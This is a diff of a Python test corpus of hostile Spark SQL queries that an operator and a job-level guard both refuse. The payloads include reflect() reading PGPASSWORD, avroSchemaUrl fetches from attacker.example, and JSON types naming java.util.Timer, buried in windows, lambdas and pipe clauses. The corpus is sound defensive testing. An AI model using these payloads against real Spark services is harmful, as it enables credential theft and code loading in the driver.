@@ -4,6 +4,9 @@ One corpus for three tests: the operator's verdicts (tests/unit/core/
 test_sql_hostile.py), the job's on a real Spark session and the agreement of
 both (tests/unit/spark_job/test_sql_guard.py), and the live operator
 (tests/e2e/test_hostile_transforms.py), whose results feed docs/security.md.
+POSITIONS, every clause of a query where Spark takes an expression, is where
+both layers' tests call each function off the allowlist
+(tests/unit/spark_job/test_sql_guard_walk.py, tests/unit/core/test_sql_policy.py).
 Every hostile transform is refused first by the operator (layer "operator":
 Stalled before any job; one is too long for the API server's schema, layer
 "admission") and again by the job; `operator` and `job` are a part of
@@ -20,6 +23,24 @@ ENV = "reflect('java.lang.System', 'getenv', 'PGPASSWORD')"
 ENV_DQ = 'reflect("java.lang.System", "getenv", "PGPASSWORD")'
 JVM = "reaches the JVM"
 COMMAND = "is a command, not a query"
+UDT = ('{"type":"udt","class":"java.util.Timer","pyClass":null,"sqlType":"string"}')
+"""A JSON type naming a class: Spark 4.0 loads and instantiates it while analysing (a
+java.util.Timer starts a thread in the driver)."""
+
+
+def struct_of(field_type: str) -> str:
+    """A JSON struct schema with one field `a` of the given JSON type."""
+    return ('{"type":"struct","fields":[{"name":"a","type":' + field_type
+            + ',"nullable":true,"metadata":{}}]}')
+
+
+UDT_STRUCT = struct_of(UDT)
+UDT_DEEP = struct_of('{"type":"array","elementType":{"type":"map","keyType":"string",'
+                     '"valueType":' + struct_of(UDT) + ',"valueContainsNull":true},'
+                     '"containsNull":true}')
+UDT_WORDS = 'holds a user-defined type ("udt")'
+OPTION_WORDS = "is not one a view may set"
+LITERAL_WORDS = "must be a string literal"
 
 
 @dataclass(frozen=True)
@@ -51,6 +72,7 @@ CMD = "commands"
 FILES = "file and catalog relations"
 TVF = "table-valued functions"
 FUNC = "functions not on the allowlist"
+SCHEMA_ARGS = "types and options Spark reads while analysing"
 RESOURCE = "resource abuse"
 
 HOSTILE: list[Hostile] = [
@@ -223,6 +245,86 @@ HOSTILE: list[Hostile] = [
        "reads a descriptor file", "reads a descriptor file"),
     _h(FUNC, "a function nobody registered", "SELECT my_udf(order_id) AS x FROM events",
        "my_udf() is not a built-in function", "my_udf() is not a built-in function"),
+    _h(FUNC, "xpath_string() in a named WINDOW clause",
+       "SELECT order_id, row_number() OVER w AS n FROM events "
+       "WINDOW w AS (PARTITION BY order_id ORDER BY xpath_string(order_id, '/a'))",
+       "xpath_string() is not a built-in function", "xpath_string() is not a built-in"),
+    _h(FUNC, "from_xml() in a named window's PARTITION BY",
+       "SELECT order_id, sum(amount) OVER w AS s FROM events "
+       "WINDOW w AS (PARTITION BY from_xml(order_id, 'a INT'))",
+       "from_xml() is not a built-in function", "from_xml() is not a built-in"),
+    _h(FUNC, "input_file_name() in a pipe |> SET",
+       "SELECT * FROM events |> SET order_id = input_file_name()",
+       "Unsupported pipe syntax operator", "names the job's input files",
+       reason="InvalidTransform"),
+    _h(FUNC, "from_avro() reading avroSchemaUrl in a pipe |> SET",
+       "FROM events |> SET order_id = from_avro(binary(order_id), '\"string\"', "
+       "map('avroSchemaUrl', 'http://attacker.example/s.avsc'))",
+       "Unsupported pipe syntax operator", "from_avro() reads the files and URLs its options name",
+       reason="InvalidTransform"),
+    _h(FUNC, "input_file_name() in a lambda in a window in a subquery in a pipe",
+       "FROM events |> EXTEND (SELECT max(n) FROM (SELECT row_number() OVER w AS n "
+       "FROM events WINDOW w AS (ORDER BY aggregate(array(1), 0, "
+       "(acc, x) -> acc + length(input_file_name()))))) AS m",
+       "names the job's input files", "names the job's input files"),
+    _h(FUNC, "input_file_name() in TABLESAMPLE ... ROWS",
+       "SELECT * FROM events TABLESAMPLE (length(input_file_name()) ROWS)",
+       "PARSE_SYNTAX_ERROR", "names the job's input files", reason="InvalidTransform"),
+
+    _h(SCHEMA_ARGS, "a class in from_json()'s JSON schema",
+       f"SELECT from_json(order_id, '{UDT_STRUCT}') AS x FROM events", UDT_WORDS, UDT_WORDS),
+    _h(SCHEMA_ARGS, "a class as the whole type of from_json()",
+       f"SELECT from_json(order_id, '{UDT}') AS x FROM events", UDT_WORDS, UDT_WORDS),
+    _h(SCHEMA_ARGS, "a class deep in an array of a map of a struct",
+       f"SELECT from_json(order_id, '{UDT_DEEP}') AS x FROM events", UDT_WORDS, UDT_WORDS),
+    _h(SCHEMA_ARGS, "a Python user-defined type",
+       "SELECT from_json(order_id, '" + struct_of(
+           '{"type":"udt","pyClass":"m.T","serializedClass":"x","sqlType":"string"}')
+       + "') AS x FROM events", UDT_WORDS, UDT_WORDS),
+    _h(SCHEMA_ARGS, "a class in FROM_JSON() in capitals, in a lambda",
+       f"SELECT transform(array(order_id), x -> FROM_JSON(x, '{UDT_STRUCT}')) AS x "
+       "FROM events", UDT_WORDS, UDT_WORDS),
+    _h(SCHEMA_ARGS, "a class in from_csv()'s schema",
+       f"SELECT from_csv(order_id, '{UDT_STRUCT}') AS x FROM events", UDT_WORDS, UDT_WORDS),
+    _h(SCHEMA_ARGS, "a class in variant_get()'s type",
+       f"SELECT variant_get(parse_json(order_id), '$', '{UDT}') AS x FROM events",
+       UDT_WORDS, UDT_WORDS),
+    _h(SCHEMA_ARGS, "a class in try_variant_get()'s type, in a window's ORDER BY",
+       "SELECT row_number() OVER (ORDER BY try_variant_get(parse_json(order_id), '$', "
+       f"'{UDT}')) AS n FROM events", UDT_WORDS, UDT_WORDS),
+    _h(SCHEMA_ARGS, "a class spelt with a SQL unicode escape",
+       "SELECT from_json(order_id, '" + UDT_STRUCT.replace('"udt"', '"\\u0075dt"')
+       + "') AS x FROM events", LITERAL_WORDS, UDT_WORDS),
+    _h(SCHEMA_ARGS, "a class behind a duplicated JSON key",
+       "SELECT from_json(order_id, '" + struct_of(
+           '{"type":"string","type":"udt","class":"java.util.Timer","pyClass":null,'
+           '"sqlType":"string"}') + "') AS x FROM events",
+       "JSON read strictly", "JSON read strictly"),
+    _h(SCHEMA_ARGS, "a schema computed by schema_of_json()",
+       "SELECT from_json(order_id, schema_of_json('{\"a\": 1}')) AS x FROM events",
+       LITERAL_WORDS, LITERAL_WORDS),
+    _h(SCHEMA_ARGS, "a schema built by concat()",
+       "SELECT from_json(order_id, concat('{\"type\":\"udt\",', "
+       "'\"class\":\"java.util.Timer\",\"pyClass\":null,\"sqlType\":\"string\"}')) "
+       "AS x FROM events", LITERAL_WORDS, LITERAL_WORDS),
+    _h(SCHEMA_ARGS, "a class name as a DDL type",
+       "SELECT from_json(order_id, 'a java.util.Timer') AS x FROM events",
+       "is not DDL the check reads", "is not a type Spark reads"),
+    _h(SCHEMA_ARGS, "compression naming a class in from_json()'s options",
+       "SELECT from_json(order_id, 'a INT', map('compression', 'java.util.Timer')) AS x "
+       "FROM events", OPTION_WORDS, OPTION_WORDS),
+    _h(SCHEMA_ARGS, "Compression in mixed case in to_json()'s options",
+       "SELECT to_json(named_struct('a', amount), MAP('Compression', 'java.util.Timer')) "
+       "AS x FROM events", OPTION_WORDS, OPTION_WORDS),
+    _h(SCHEMA_ARGS, "avroSchemaUrl in from_json()'s options",
+       "SELECT from_json(order_id, 'a INT', map('avroSchemaUrl', "
+       "'http://attacker.example/s.avsc')) AS x FROM events", OPTION_WORDS, OPTION_WORDS),
+    _h(SCHEMA_ARGS, "a charset in schema_of_csv()'s options",
+       "SELECT schema_of_csv('1,2', map('encoding', 'x-evil')) AS x FROM events",
+       OPTION_WORDS, OPTION_WORDS),
+    _h(SCHEMA_ARGS, "options computed by str_to_map()",
+       "SELECT from_json(order_id, 'a INT', str_to_map('compression:java.util.Timer')) AS x "
+       "FROM events", "options must be map(", "options must be map("),
 
     _h(RESOURCE, "80 nested calls",
        "SELECT " + "abs(" * 80 + "amount" + ")" * 80 + " AS a FROM events",
@@ -290,3 +392,66 @@ LEGITIMATE: list[tuple[str, str]] = [
      "CASE WHEN amount < -1 THEN raise_error('negative') END AS e FROM events"),
 ]
 """(what, SQL): both layers allow every one."""
+
+ALLOWED = "upper('a')"
+"""An allowlisted call that makes every position of POSITIONS a valid query, but those of
+FILLERS."""
+FILLERS = {"hint": "order_id", "LATERAL VIEW generator": "explode(array(1))",
+           "table-valued function": "explode(array(1))"}
+"""What makes these positions valid queries: a hint takes columns, the others generators."""
+POSITIONS: list[tuple[str, str]] = [
+    ("SELECT list", "SELECT {f} AS x FROM events"),
+    ("WHERE", "SELECT order_id FROM events WHERE {f} IS NOT NULL"),
+    ("GROUP BY", "SELECT count(*) AS n FROM events GROUP BY {f}"),
+    ("GROUP BY ROLLUP", "SELECT count(*) AS n FROM events GROUP BY ROLLUP({f})"),
+    ("HAVING",
+     "SELECT customer_id FROM events GROUP BY customer_id HAVING max({f}) IS NOT NULL"),
+    ("aggregate FILTER", "SELECT count(*) FILTER (WHERE {f} IS NULL) AS n FROM events"),
+    ("WITHIN GROUP",
+     "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY length({f})) AS p FROM events"),
+    ("ORDER BY", "SELECT order_id FROM events ORDER BY {f}"),
+    ("DISTRIBUTE BY", "SELECT order_id FROM events DISTRIBUTE BY {f}"),
+    ("window PARTITION BY",
+     "SELECT row_number() OVER (PARTITION BY {f} ORDER BY ts) AS n FROM events"),
+    ("window ORDER BY", "SELECT row_number() OVER (ORDER BY {f}) AS n FROM events"),
+    ("named WINDOW clause", "SELECT row_number() OVER w AS n FROM events "
+                            "WINDOW w AS (PARTITION BY order_id ORDER BY {f})"),
+    ("lambda body", "SELECT transform(array(order_id), x -> {f}) AS t FROM events"),
+    ("lambda in a named window in a subquery",
+     "SELECT * FROM (SELECT row_number() OVER w AS n FROM events WINDOW w AS "
+     "(ORDER BY aggregate(array(1), 0, (acc, y) -> acc + length({f}))))"),
+    ("scalar subquery in SELECT", "SELECT (SELECT max({f}) FROM events) AS m FROM events"),
+    ("IN subquery in WHERE",
+     "SELECT order_id FROM events WHERE order_id IN (SELECT {f} FROM events)"),
+    ("EXISTS subquery",
+     "SELECT order_id FROM events WHERE EXISTS (SELECT 1 FROM events e WHERE {f} IS NULL)"),
+    ("subquery in FROM", "SELECT * FROM (SELECT {f} AS x FROM events) s"),
+    ("LATERAL subquery", "SELECT e.order_id, l.x FROM events e, LATERAL (SELECT {f} AS x) l"),
+    ("CTE", "WITH c AS (SELECT {f} AS x FROM events) SELECT * FROM c"),
+    ("JOIN ON", "SELECT a.order_id FROM events a JOIN events b ON {f} = b.order_id"),
+    ("UNION branch", "SELECT order_id FROM events UNION ALL SELECT {f} FROM events"),
+    ("pipe |> SET", "FROM events |> SET order_id = {f}"),
+    ("pipe |> EXTEND", "FROM events |> EXTEND {f} AS x"),
+    ("pipe |> WHERE", "FROM events |> WHERE {f} IS NOT NULL"),
+    ("pipe |> SELECT", "FROM events |> SELECT {f} AS x"),
+    ("pipe |> AGGREGATE", "FROM events |> AGGREGATE max({f}) AS m GROUP BY order_id"),
+    ("pipe |> ORDER BY", "FROM events |> ORDER BY {f}"),
+    ("pipe, window, subquery and lambda",
+     "FROM events |> EXTEND (SELECT max(n) FROM (SELECT row_number() OVER w AS n FROM events "
+     "WINDOW w AS (ORDER BY aggregate(array(1), 0, (acc, y) -> acc + length({f}))))) AS m"),
+    ("LATERAL VIEW", "SELECT order_id, c FROM events LATERAL VIEW explode(array({f})) t AS c"),
+    ("generator in SELECT", "SELECT explode(array({f})) AS c FROM events"),
+    ("table-valued function argument", "SELECT * FROM explode(array({f}))"),
+    ("TABLESAMPLE ROWS", "SELECT * FROM events TABLESAMPLE (length({f}) ROWS)"),
+    ("LIMIT", "SELECT order_id FROM events LIMIT length({f})"),
+    ("VALUES", "SELECT * FROM VALUES ({f}) AS t(a)"),
+    ("CASE WHEN", "SELECT CASE WHEN {f} IS NULL THEN 1 END AS c FROM events"),
+    ("CAST", "SELECT CAST({f} AS STRING) AS c FROM events"),
+    ("named argument", "SELECT mask(order_id, upperChar => {f}) AS m FROM events"),
+    ("struct field of a call", "SELECT named_struct('a', {f}).a AS a FROM events"),
+    ("hint", "SELECT /*+ REPARTITION({f}) */ order_id FROM events"),
+    ("LATERAL VIEW generator", "SELECT order_id, c FROM events LATERAL VIEW {f} t AS c"),
+    ("table-valued function", "SELECT * FROM {f}"),
+]
+"""Every place Spark 4.0's grammar takes an expression in a query, `{f}` the expression.
+(A window frame bound must be a literal: Spark's parser refuses a call there itself.)"""
